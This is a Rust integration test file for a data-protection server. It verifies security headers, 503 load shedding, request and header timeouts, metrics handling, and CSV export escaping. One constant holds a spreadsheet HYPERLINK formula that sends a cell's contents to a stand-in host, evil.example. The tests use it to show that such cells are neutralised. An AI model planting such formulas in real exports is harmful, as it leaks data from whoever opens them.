//! The server's protections over real HTTP: security headers on every response, the
//! concurrency bound (503 + Retry-After), the request and header-read deadlines, CSV cells that
//! cannot run as formulas, and metrics that are neither served by the API nor computed per
//! scrape, with the recorder's upkeep running on its own.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::time::Duration;

use amanah_server::{Limits, Options};
use reqwest::StatusCode;
use serde_json::json;
use support::{start, start_metered, start_with_options, Harness, Kind};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A guard against a hung test, far beyond any expected wait; never the thing asserted.
const HANG: Duration = Duration::from_secs(60);

fn assert_security_headers(resp: &reqwest::Response, tls: bool) {
    let h = resp.headers();
    let what = format!("{} {}", resp.status(), resp.url().path());
    assert_eq!(h["cache-control"], "no-store", "{what}");
    assert_eq!(h["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(h["referrer-policy"], "no-referrer", "{what}");
    assert_eq!(h["x-frame-options"], "DENY", "{what}");
    assert_eq!(
        h.get("strict-transport-security")
            .map(|v| v.to_str().unwrap()),
        tls.then_some("max-age=31536000"),
        "{what}"
    );
}

async fn get(h: &Harness, path: &str, key: Option<&str>) -> reqwest::Response {
    let mut req = h.client.get(format!("{}{path}", h.base));
    if let Some(k) = key {
        req = req.header("authorization", format!("Bearer {k}"));
    }
    req.send().await.unwrap()
}

#[tokio::test]
async fn every_response_carries_the_security_headers() {
    for tls in [false, true] {
        let h = start_with_options(
            Kind::Sqlite,
            Options {
                limits: Limits::default(),
                tls,
            },
        )
        .await;
        let id = h.adult(1).await;
        for (path, key, status) in [
            (
                format!("/v1/subjects/{id}?purpose=admission"),
                Some(h.k.admin.as_str()),
                200,
            ),
            ("/v1/audit/verify".to_owned(), None, 401),
            (
                "/v1/audit/verify".to_owned(),
                Some(h.k.officer.as_str()),
                403,
            ),
            ("/v1/nothing-here".to_owned(), None, 404),
            ("/metrics".to_owned(), None, 404),
            ("/healthz".to_owned(), None, 200),
            ("/openapi.json".to_owned(), None, 200),
        ] {
            let resp = get(&h, &path, key).await;
            assert_eq!(resp.status().as_u16(), status, "{path}");
            assert_security_headers(&resp, tls);
        }
        let resp = h
            .client
            .delete(format!("{}/healthz", h.base))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::METHOD_NOT_ALLOWED);
        assert_security_headers(&resp, tls);
    }
}

/// Opens a connection and sends a create whose body never completes: the request stays in
/// progress (waiting for its body) until `finish` is called or the server gives up on it.
struct Stalled {
    stream: tokio::net::TcpStream,
}

impl Stalled {
    async fn open(h: &Harness) -> Stalled {
        let addr = h.base.trim_start_matches("http://");
        let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
        let head = format!(
            "POST /v1/subjects?purpose=admission HTTP/1.1\r\nhost: {addr}\r\nauthorization: Bearer {}\r\n\
             content-type: application/json\r\ncontent-length: 1000\r\nconnection: close\r\n\r\n{{",
            h.k.officer
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        Stalled { stream }
    }

    /// Everything the server sends until it closes the connection.
    async fn response(mut self) -> String {
        let mut out = Vec::new();
        tokio::time::timeout(HANG, self.stream.read_to_end(&mut out))
            .await
            .expect("the server never answered the stalled request")
            .unwrap();
        String::from_utf8_lossy(&out).into_owned()
    }
}

#[tokio::test]
async fn beyond_the_concurrency_limit_requests_are_shed_with_503() {
    let h = start_with_options(
        Kind::Sqlite,
        Options {
            limits: Limits {
                max_concurrent_requests: 1,
                ..Limits::default()
            },
            tls: false,
        },
    )
    .await;
    let stalled = Stalled::open(&h).await;
    // Once the stalled request holds the only slot, every other request is shed at once.
    let shed = tokio::time::timeout(HANG, async {
        loop {
            let resp = get(&h, "/healthz", None).await;
            if resp.status() == StatusCode::SERVICE_UNAVAILABLE {
                break resp;
            }
            assert_eq!(resp.status(), StatusCode::OK);
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    })
    .await
    .expect("the stalled request never took the slot");
    assert_eq!(shed.headers()["retry-after"], "1");
    assert_eq!(shed.headers()["content-type"], "application/problem+json");
    assert_security_headers(&shed, false);
    let body: serde_json::Value = shed.json().await.unwrap();
    assert_eq!(body["type"], "urn:amanah:problem:overloaded");
    assert_eq!(body["status"], 503);
    // Authenticated API calls are shed the same way.
    let (s, v) = h.get("/v1/audit/verify", &h.k.admin).await;
    assert_eq!(s, StatusCode::SERVICE_UNAVAILABLE, "{v}");

    // When the stalled request ends (here: its connection closes), the slot is free again.
    drop(stalled);
    tokio::time::timeout(HANG, async {
        while get(&h, "/healthz", None).await.status() != StatusCode::OK {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    })
    .await
    .expect("the slot was never released");
}

/// Any route may answer 503 under the limits: the served document says so for every one.
#[tokio::test]
async fn every_route_documents_503_with_retry_after() {
    let h = start(Kind::Sqlite, 0).await;
    let doc: serde_json::Value = get(&h, "/openapi.json", None).await.json().await.unwrap();
    let mut seen = 0;
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, op) in item.as_object().unwrap() {
            let r = &op["responses"]["503"];
            assert!(
                r["content"]["application/problem+json"].is_object(),
                "{method} {path}: {r}"
            );
            assert!(
                r["headers"]["Retry-After"].is_object(),
                "{method} {path}: {r}"
            );
            seen += 1;
        }
    }
    assert!(seen > 40, "{seen} operations");
}

#[tokio::test]
async fn a_request_past_its_deadline_gets_503() {
    let h = start_with_options(
        Kind::Sqlite,
        Options {
            limits: Limits {
                request_timeout: Duration::from_millis(200),
                ..Limits::default()
            },
            tls: false,
        },
    )
    .await;
    // The body never arrives, so only the deadline can end the request.
    let response = Stalled::open(&h).await.response().await;
    assert!(response.starts_with("HTTP/1.1 503"), "{response}");
    assert!(
        response.contains("urn:amanah:problem:timeout"),
        "{response}"
    );
    assert!(
        response.to_lowercase().contains("retry-after: 1"),
        "{response}"
    );
    // Ordinary requests are answered as before.
    let (s, _) = h.get("/v1/audit/verify", &h.k.admin).await;
    assert_eq!(s, StatusCode::OK);
}

#[tokio::test]
async fn a_connection_that_never_finishes_its_headers_is_closed() {
    let h = start_with_options(
        Kind::Sqlite,
        Options {
            limits: Limits {
                header_read_timeout: Duration::from_millis(200),
                ..Limits::default()
            },
            tls: false,
        },
    )
    .await;
    let addr = h.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    stream
        .write_all(format!("GET /healthz HTTP/1.1\r\nhost: {addr}\r\nx-slow: 1").as_bytes())
        .await
        .unwrap();
    // Without a header deadline this read would wait for ever.
    let mut out = Vec::new();
    let _ = tokio::time::timeout(HANG, stream.read_to_end(&mut out))
        .await
        .expect("the server kept a connection with unfinished headers open");
    let text = String::from_utf8_lossy(&out);
    assert!(!text.contains("200 OK"), "{text}");
}

/// The test policy with a free-text category in the admission purpose, receivable by the
/// verifier.
fn policy_with_notes() -> String {
    let p = support::set(
        &support::test_policy("v2", 0),
        "purposes.admission",
        "categories",
        r#"["full_name", "email", "phone", "birth_date", "nik", "notes"]"#,
    );
    let p = support::set(
        &p,
        "recipients.verifier",
        "categories",
        r#"["full_name", "email", "nik", "notes"]"#,
    );
    format!("{p}\n[categories.notes]\ntype = \"text\"\nclass = \"general\"\n")
}

async fn csv(h: &Harness, path: &str, key: &str) -> String {
    let resp = get(h, path, Some(key)).await;
    assert_eq!(resp.status(), StatusCode::OK, "{path}");
    assert_eq!(resp.headers()["content-type"], "text/csv; charset=utf-8");
    assert_security_headers(&resp, false);
    resp.text().await.unwrap()
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"open")"#;

#[tokio::test]
async fn csv_cells_never_begin_with_a_formula() {
    let h = start(Kind::Sqlite, 0).await;
    h.apply_policy(&policy_with_notes()).await;
    let id = h
        .create(
            &h.k.officer,
            json!({"full_name": "Ani Lestari", "phone": "+62 812-3456-7890", "notes": FORMULA}),
        )
        .await;
    let other = h
        .create(&h.k.officer, json!({"full_name": "Budi", "notes": "-1+2"}))
        .await;

    // The subject's export: the formula, the arithmetic and the E.164 phone are all text.
    let export = csv(
        &h,
        &format!("/v1/subjects/{id}/export?format=csv"),
        &h.k.dpo,
    )
    .await;
    let quoted = FORMULA.replace('"', "\"\"");
    assert!(
        export
            .lines()
            .any(|l| l == format!("fields,notes,\"'{quoted}\"")),
        "{export}"
    );
    assert!(
        export.lines().any(|l| l == "fields,phone,'+6281234567890"),
        "{export}"
    );
    let export = csv(
        &h,
        &format!("/v1/subjects/{other}/export?format=csv"),
        &h.k.dpo,
    )
    .await;
    assert!(
        export.lines().any(|l| l == "fields,notes,'-1+2"),
        "{export}"
    );
    for line in export.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{line}"
            );
        }
    }

    // A disclosure package.
    let (s, d) = h
        .post(
            "/v1/disclosures",
            &h.k.officer,
            json!({"recipient": "verifier", "purpose": "admission", "subject_ids": [id, other],
                   "categories": ["full_name", "notes"], "reason": "verification",
                   "reference": "V-1"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{d}");
    let did = d["id"].as_str().unwrap();
    for (key, step) in [(&h.k.pic, "approve"), (&h.k.owner, "authorize")] {
        let (s, v) = h
            .post(&format!("/v1/disclosures/{did}/{step}"), key, json!({}))
            .await;
        assert_eq!(s, StatusCode::OK, "{step}: {v}");
    }
    let package = csv(
        &h,
        &format!("/v1/disclosures/{did}/package?format=csv"),
        &h.k.officer,
    )
    .await;
    assert!(
        package.contains(&format!("{id},Ani Lestari,\"'{quoted}\"")),
        "{package}"
    );
    assert!(
        package.contains(&format!("{other},Budi,'-1+2")),
        "{package}"
    );
}

/// The only test of this binary that reads gauges (they are process-wide).
#[tokio::test]
async fn metrics_are_read_from_memory_and_the_recorder_is_kept_without_scrapes() {
    let h = start_metered(Kind::Sqlite, 0).await;
    let id = h.adult(1).await;
    let (s, v) = h
        .post(
            "/v1/requests",
            &h.k.dpo,
            json!({"subject_id": id, "type": "access"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let gauge = |text: &str, name: &str| {
        text.lines()
            .find(|l| l.starts_with(name))
            .and_then(|l| l.rsplit(' ').next())
            .and_then(|v| v.parse::<f64>().ok())
    };
    let m = h.scrape().await;
    assert_eq!(gauge(&m, "amanah_requests_open"), Some(1.0), "{m}");
    assert_eq!(gauge(&m, "amanah_requests_overdue"), Some(0.0), "{m}");

    // The deadline passes. A scrape does not query the store: the gauge moves only when the
    // periodic task has run.
    h.clock.advance(time::Duration::days(5));
    let m = h.scrape().await;
    assert_eq!(gauge(&m, "amanah_requests_overdue"), Some(0.0), "{m}");
    h.metrics_upkeep().await;
    let m = h.scrape().await;
    assert_eq!(gauge(&m, "amanah_requests_overdue"), Some(1.0), "{m}");

    // The API's listener does not serve metrics.
    let resp = get(&h, "/metrics", None).await;
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    assert_eq!(resp.headers()["content-type"], "application/problem+json");

    // The periodic task runs by itself: its rounds are counted, with nothing scraping.
    let (_, handle) = h.metrics.as_ref().unwrap();
    let before = gauge(&h.scrape().await, "amanah_metrics_upkeep_runs_total").unwrap();
    let task =
        amanah_server::spawn_upkeep(h.vault.clone(), handle.clone(), Duration::from_millis(5));
    tokio::time::timeout(HANG, async {
        loop {
            tokio::time::sleep(Duration::from_millis(20)).await;
            let runs = gauge(&h.scrape().await, "amanah_metrics_upkeep_runs_total").unwrap();
            if runs >= before + 2.0 {
                break;
            }
        }
    })
    .await
    .expect("the upkeep task never ran");
    task.abort();
}
